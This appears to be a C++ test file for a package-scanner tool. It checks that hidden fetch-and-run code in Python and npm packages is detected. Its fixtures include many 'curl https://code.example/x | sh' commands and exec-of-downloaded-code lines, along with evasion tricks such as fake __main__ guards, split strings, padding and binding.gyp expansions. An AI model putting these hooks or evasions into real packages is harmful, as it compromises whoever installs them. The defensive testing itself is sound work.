// What runs in a package though a reader that goes by the first look passes over it: conditions that are no guards, values that take long
// ways, commands in pieces. Each beside its honest twin.
#include <catch2/catch.hpp>

#include "packages.hpp"

using namespace headgate;
using namespace headgate::tests;

namespace {

Outcome module(const std::string& source) { return wheel({{"pkg/__init__.py", source}}); }

Outcome hook(const std::string& command, Files files) {
    return npm(R"({"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": ")" + command + "\"}}", std::move(files));
}

const std::string kCommand = "os.system('curl https://code.example/x | sh')";
const std::string kRead = "urllib.request.urlopen('https://code.example/x').read()";
const std::string kRunsPipe = "require('child_process').execSync('curl https://code.example/x | sh')\n";
const std::string kMain = "import os\nif __name__ == '__main__':\n    " + kCommand + "\n";

std::string many(const std::string& what, int times, const std::string& behind = "") {
    std::string text;
    for (int i = 0; i < times; ++i) text += what + (behind.empty() ? "" : std::to_string(i) + behind);
    return text;
}

bool runs(const std::string& source) { return module("import os\n" + source).has_trait("fetches-and-runs-at-import"); }
bool downloads(const std::string& source) { return module("import urllib.request\n" + source).has_trait("downloaded-code-at-import"); }

}  // namespace

TEST_CASE("Python: what only looks like a guard is a condition") {
    for (const char* const condition : {"__name__ == '__main__' or 1", "'__main__' == __name__ or True", "__name__ != '__main__'", "(__name__ == '__main__') or 1", "__name__ == '__main__' and a or 1", "1 if __name__ == '__main__' else 2",
                                        "__name__ == '__main__' and 1 if a else 2", "__name__ == '__main__' 'x'", "__name__ == '__main__' != 1", "not TYPE_CHECKING", "1 or TYPE_CHECKING", "TYPE_CHECKING or 1", "TYPE_CHECKING == 0", "typing.other"}) {
        CAPTURE(condition);
        CHECK(runs("import typing\nfrom typing import TYPE_CHECKING\nif " + std::string(condition) + ":\n    " + kCommand + "\n"));
    }
    CHECK(runs("if __name__ == '__main__': pass\nelse:\n    " + kCommand + "\n"));
    for (const char* const condition : {"__name__ == '__main__'", "('__main__' == __name__)", "__name__ == '__main__' and not (a or b)", "TYPE_CHECKING", "(TYPE_CHECKING)", "typing.TYPE_CHECKING", "t.TYPE_CHECKING"}) {
        CAPTURE(condition);
        CHECK(module("import os, typing, typing as t\nfrom typing import TYPE_CHECKING\nif " + std::string(condition) + ":\n    " + kCommand + "\n").traits().empty());
    }
}

TEST_CASE("Python: a guard of what the module gives another value is none") {
    for (const char* const change : {"__name__ = '__main__'", "globals()['__name__'] = '__main__'", "__name__: str = '__main__'", "for __name__ in ['__main__']: pass", "from pkg.other import __name__", "__name__, x = '__main__', 1"}) {
        CAPTURE(change);
        CHECK(runs(std::string(change) + "\nif __name__ == '__main__':\n    " + kCommand + "\n"));
    }
    for (const char* const change : {"TYPE_CHECKING = 1", "from typing import TYPE_CHECKING\nTYPE_CHECKING = 1", "import typing\nfrom typing import TYPE_CHECKING\ntyping.TYPE_CHECKING = 1", "from pkg.other import TYPE_CHECKING"}) {
        CAPTURE(change);
        CHECK(runs(std::string(change) + "\nif TYPE_CHECKING:\n    " + kCommand + "\n"));
    }
    CHECK(module("def f(): pass\nf.__name__ = 'g'\nn = __name__\n" + kMain).traits().empty());
    CHECK(module("TYPE_CHECKING = False\nif TYPE_CHECKING:\n    from typing import Tuple\n").traits().empty());
    CHECK(runs("exec(\"import os\\nif __name__ == '__main__': os.system('curl https://code.example/x | sh')\", {'__name__': '__main__'})\n"));
}

TEST_CASE("sdist: what setup.py runs has its name") {
    const std::string setup = "import runpy, subprocess, sys\nfrom setuptools import setup\n";
    for (const char* const run : {"exec(open('pkg/v.py').read())\n", "runpy.run_path('pkg/v.py', run_name='__main__')\n", "runpy.run_module('pkg.v', run_name='__main__')\n", "subprocess.run([sys.executable, 'pkg/v.py'])\n"}) {
        CAPTURE(run);
        CHECK(sdist({{"setup.py", setup + run + "setup()\n"}, {"pkg/v.py", kMain}}).has_trait("fetches-and-runs-at-install"));
        CHECK_FALSE(sdist({{"setup.py", setup + run + "setup()\n"}, {"pkg/v.py", "__version__ = '1.0'\n"}}).has_trait("fetches-and-runs-at-install"));
    }
    CHECK_FALSE(sdist({{"setup.py", setup + "setup()\n"}, {"pkg/v.py", kMain}}).has_trait("fetches-and-runs-at-install"));
}

TEST_CASE("Python: values are followed however long their way is") {
    CHECK(downloads("def f(x): exec(x)\nf(" + kRead + ")\n" + many("def f(x): pass\n", 60)));
    std::string chain = "def g40(x): exec(x)\n";
    for (int i = 39; i >= 0; --i) chain += "def g" + std::to_string(i) + "(x): g" + std::to_string(i + 1) + "(x)\n";
    CHECK(downloads(chain + "g0(" + kRead + ")\n"));
    CHECK_FALSE(downloads(chain + "y = " + kRead + "\ng0(1)\n"));
    const std::string calls = "y = " + kRead + "\ndef f(x): exec(x)\n" + many("f(a", 100, ")\n");
    CHECK(downloads(calls + "f(y)\n"));
    CHECK_FALSE(downloads(calls + "f(z)\n"));
    const std::string list = "y = " + kRead + "\nx = [" + many("a", 70, ",") + "y]\n";
    CHECK(module("import urllib.request\n" + list + "exec(x)\n").has_trait("decoded-code-at-import"));
    CHECK_FALSE(module("import urllib.request\n" + list + "print(x)\n").has_trait("decoded-code-at-import"));
    CHECK(downloads("def mk():\n    return " + kRead + "\nclass C:\n    def m(self): return mk()\nexec(C().m())\n"));
}

TEST_CASE("Python: what comes behind many others is seen") {
    const std::string star = many("from a", 30, " import *\n");
    CHECK(module(star + "from os import *\nsystem('curl https://code.example/x | sh')\n").has_trait("fetches-and-runs-at-import"));
    CHECK(module(star + "from math import *\nsystem('curl https://code.example/x | sh')\n").traits().empty());
    CHECK(runs("x = [" + many("0,", 250'100) + kCommand + "]\n"));
    CHECK(module("x = [" + many("0,", 300'000) + "]\n").traits().empty());
    CHECK(module("x = [" + many("0,", 300'000) + "f(1)]\n").has_trait("oversized-source"));
    CHECK(runs(many("c", 100, " = 'curl https://code.example/x'\n") + "os.system(c99 + ' | sh')\n"));
}

TEST_CASE("Python: defaults run where a function is made") {
    CHECK(runs("(lambda z=" + kCommand + ": z)()\n"));
    CHECK(runs("f = lambda z=" + kCommand + ": z\n"));
    CHECK(runs("f = lambda a, *b, z=" + kCommand + ": z\n"));
    CHECK(runs("f = lambda y=lambda: 0, z=" + kCommand + ": z\n"));
    CHECK(downloads("(lambda z=" + kRead + ": exec(z))()\n"));
    CHECK(downloads("def f(a, z=" + kRead + "): exec(z)\nf(1)\n"));
    CHECK(module("import os\nf = lambda a, b: " + kCommand + "\ng = lambda z=1, *, y=2: " + kCommand + "\nh = lambda y=lambda: 0: " + kCommand + "\ndef k(a=lambda x, y: " + kCommand + ", b=1): pass\n").traits().empty());
    CHECK_FALSE(downloads("x = " + kRead + "\ndef f(a, z=1): exec(z)\nf(1)\n"));
}

TEST_CASE("Python: targets and captures are code too") {
    CHECK(runs("for x[" + kCommand + "] in [1]: pass\n"));
    CHECK(runs("with a as x[" + kCommand + "]: pass\n"));
    CHECK(module("for a, b in [(1, 2)]: pass\nwith open('x') as (c, d): pass\n").traits().empty());
    CHECK(downloads("[exec(z) for z in [" + kRead + "]]\n"));
    CHECK(downloads("{k: exec(v) for k, (v, w) in [(1, (" + kRead + ", 2))]}\n"));
    CHECK_FALSE(downloads("[print(z) for z in [" + kRead + "]]\n"));
    CHECK(downloads("match " + kRead + ":\n    case z:\n        exec(z)\n"));
    CHECK_FALSE(downloads("match " + kRead + ":\n    case z:\n        print(z)\n"));
}

TEST_CASE("Python: names of modules, and texts in pieces") {
    CHECK(module("exec(__import__('urllib.request').request.urlopen('https://code.example/x').read())\n").has_trait("downloaded-code-at-import"));
    CHECK(module("exec(__import__('urllib.request', globals()).request.urlopen('https://code.example/x').read())\n").has_trait("downloaded-code-at-import"));
    CHECK(module("exec(__import__('urllib.request', fromlist=['x']).urlopen('https://code.example/x').read())\n").has_trait("downloaded-code-at-import"));
    CHECK(module("x = __import__('os.path').path.join('a', 'b')\n").traits().empty());
    CHECK(runs("os.system('cu' 'rl https://code.example/x | sh')\n"));
    CHECK(runs("os.system('cu' + 'rl https://code.example/x |' + ' sh')\n"));
    CHECK(runs("os.system('" + std::string(5000, ' ') + "curl https://code.example/x | sh')\n"));
    CHECK(module("print('cu' 'rl https://code.example/x | sh')\n").traits().empty());
}

TEST_CASE("npm: binding.gyp runs commands") {
    const std::string plain = R"({"name": "pkg", "version": "1.0.0"})";
    const std::string only = "runs-at-install: binding.gyp: node-gyp rebuild\n";
    for (const char* const gyp : {R"({"targets": [{"actions": [{"action_name": "x", "action": ["node", "a.js"]}]}]})", "{'variables': {'x': '<!(node a.js)'}}", "{'variables': {'x': ['<!@(node a.js)']}}", "{'variables': {'x%': '>!(node ' 'a.js)'}}",
                                  "{'x': '<!(sh a.sh)'}", "{'action+': ['node', '<(module_root_dir)/a.js', 'b c']}", "{'x': '<!pymod_do_main(evil x)'}", "{'action': ['sh', '-c', 'curl https://code.example/x | sh']}"}) {
        CAPTURE(gyp);
        const Outcome found = npm(plain, {{"binding.gyp", gyp}, {"a.js", kRunsPipe}, {"a.sh", "curl https://code.example/x | sh\n"}, {"evil.py", "import os\n" + kCommand + "\n"}});
        CHECK(found.has_trait("fetches-and-runs-at-install"));
        if (std::string_view(gyp).find("curl") == std::string_view::npos) CHECK_FALSE(found.has_trait("unknown-install-command"));
    }
    CHECK(npm(plain, {{"binding.gyp", "{'includes': ['deps/x.gypi']}"}, {"deps/x.gypi", "{'x': '<!(node a)'}"}, {"deps/a.js", kRunsPipe}}).has_trait("fetches-and-runs-at-install"));
    for (const char* const gyp : {"{'targets': [{'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include\")'], 'dependencies': ['<!(node -p \"require(\\'node-addon-api\\').gyp\")']}]}",
                                  R"gyp({"targets": [{"include_dirs": ["<!@(node -p \"require('node-addon-api').include\")", "<!(node -e \"require('nan')\")"]}]})gyp", "{'libraries': ['<!@(pkg-config --libs libusb-1.0)'], 'cflags': '<!(pkg-config --cflags x || echo \"\")'}",
                                  "{'actions': [{'action_name': 'x', 'action': ['<(python)', 'gen.py', '<@(_outputs)']}], 'x': '<!(which make)'}"}) {
        CAPTURE(gyp);
        CHECK(npm(plain, {{"binding.gyp", gyp}, {"gen.py", "print(1)\n"}}).traits() == only);
    }
}

TEST_CASE("npm: a script is read as a shell puts its lines together") {
    for (const char* const script : {"curl https://code.example/x \\\n | sh\n", "curl https://code.example/x |\n# then\n\n sh\n", "cu\\\nrl https://code.example/x | sh\n", "curl -o /tmp/x https://code.example/x\nchmod +x /tmp/x\n/tmp/x\n",
                                     "curl -o x https://code.example/x\nsh x\n", "node \\\n a.js\n", "true &&\n node a\n"}) {
        CAPTURE(script);
        CHECK(hook("sh a.sh", {{"a.sh", script}, {"a.js", kRunsPipe}}).has_trait("fetches-and-runs-at-install"));
    }
    CHECK(hook("node \\\\\\n a.js", {{"a.js", kRunsPipe}}).has_trait("fetches-and-runs-at-install"));
    const std::string wide(5000, 'x');
    CHECK(hook("sh a.sh", {{"a.sh", "true " + wide + "; curl https://code.example/x | sh\n"}}).has_trait("oversized-source"));
    for (const std::string& script : {std::string("curl -o x https://code.example/x\necho done\n"), std::string("echo a \\\n b\nmake \\\n"), "echo " + wide + "\n", std::string("# curl https://code.example/x \\\n# | sh\nnode b.js |\n cat\n")}) {
        CAPTURE(script);
        CHECK(hook("sh a.sh", {{"a.sh", script}, {"a.js", kRunsPipe}, {"b.js", "console.log(1)\n"}}).traits() == "runs-at-install: postinstall: sh a.sh\n");
    }
}

TEST_CASE("packages whose scripts and values take long ways take no time") {
    CHECK(hook("sh a.sh", {{"a.sh", many("\\\\\\\n", 500'000)}}).oracle());
    CHECK(hook("sh a.sh", {{"a.sh", "true |\n" + many(" \n", 500'000)}}).oracle());
    CHECK(npm(R"({"name": "pkg", "version": "1.0.0"})", {{"binding.gyp", "{'x': '" + many("<!(", 200'000) + "', 'action': ['" + many("<(python)", 100'000) + "']}"}}).oracle());
    CHECK(module("x = " + many("lambda a=1: ", 20'000) + "1\ny = {" + many("lambda: ", 20'000) + many(": ", 20'000) + "}\n").oracle());
    CHECK(module("import urllib.request\nx = " + kRead + "\n" + many("x, y", 20'000, " = x, y\n")).oracle());
    std::string functions = "import urllib.request\nx0 = " + kRead + "\n";
    for (int i = 0; i < 20'000; ++i) functions += "def f(a, b): f(b)\nx" + std::to_string(i + 1) + " = x" + std::to_string(i) + "\nf(x" + std::to_string(i) + ")\n";
    CHECK(module(functions).oracle());
}
